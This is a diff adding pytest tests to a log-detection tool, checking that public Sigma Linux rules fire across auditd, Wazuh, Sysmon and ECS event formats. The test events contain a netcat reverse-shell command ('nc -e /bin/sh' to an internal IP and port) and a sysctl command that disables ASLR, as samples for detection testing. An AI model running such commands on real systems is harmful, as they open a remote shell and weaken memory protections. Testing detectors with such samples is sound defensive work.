@@ -176,3 +176,41 @@ def test_formats_are_detected_line_by_line(shipped: Ruleset) -> None:
             assert doc["message"] == line.decode()
         elif not rule_ids(doc):
             assert doc == msgspec.json.decode(line)
+
+
+@pytest.fixture(scope="module")
+def public() -> Ruleset:
+    """Two public Sigma linux rules: one written for auditd records, one for process creation."""
+    from conftest import RULESETS
+    from shellsieve.cli import build
+
+    linux = RULESETS / "sigma" / "linux"
+    if not linux.is_dir():
+        pytest.skip("the shared rulesets are not next to this clone")
+    _, ruleset, _ = build([linux / "auditd" / "lnx_auditd_disable_aslr_protection.yml",
+                           linux / "process_creation" / "proc_creation_lnx_netcat_reverse_shell.yml"])
+    return ruleset
+
+
+class TestPublicRulesOnOtherShapes:
+    """Rules written for one shape fire on the others: Sigma's auditd `type`/`a0..aN` rule on raw auditd
+    records and Wazuh's, Sigma's Image/CommandLine rule on auditd, Sysmon for Linux, Wazuh and ECS."""
+
+    ASLR = "e497a24e-9345-4a62-9803-b06d7d7cb132"  # lnx_auditd_disable_aslr_protection
+    NETCAT = "7f734ed0-4f47-46c0-837f-6ee62505abd9"  # proc_creation_lnx_netcat_reverse_shell
+
+    # ECS process events carry no auditd record type (`type: 'EXECVE'`): not a shape for this rule
+    @pytest.mark.parametrize("fmt", ["auditd", "wazuh-audit"])
+    def test_sigma_auditd_rule(self, public: Ruleset, fmt: str) -> None:
+        ex = Exec(("sysctl", "-w", "kernel.randomize_va_space=0"), "/usr/sbin/sysctl", parent=BASH)
+        docs, _ = run_lines(public, WRITERS[fmt](ex))
+        assert [rule_ids(d) for d in docs if rule_ids(d)] == [[self.ASLR]]
+        ok = Exec(("sysctl", "-w", "kernel.randomize_va_space=2"), "/usr/sbin/sysctl", parent=BASH)
+        docs, _ = run_lines(public, WRITERS[fmt](ok))
+        assert not any(rule_ids(d) for d in docs)
+
+    @pytest.mark.parametrize("fmt", ["ecs", "auditd", "sysmon-syslog", "wazuh-audit"])
+    def test_sigma_process_creation_rule(self, public: Ruleset, fmt: str) -> None:
+        ex = Exec(("nc", "-e", "/bin/sh", "10.0.0.1", "4444"), "/usr/bin/nc", parent=BASH)
+        docs, _ = run_lines(public, WRITERS[fmt](ex))
+        assert [rule_ids(d) for d in docs if rule_ids(d)] == [[self.NETCAT]]
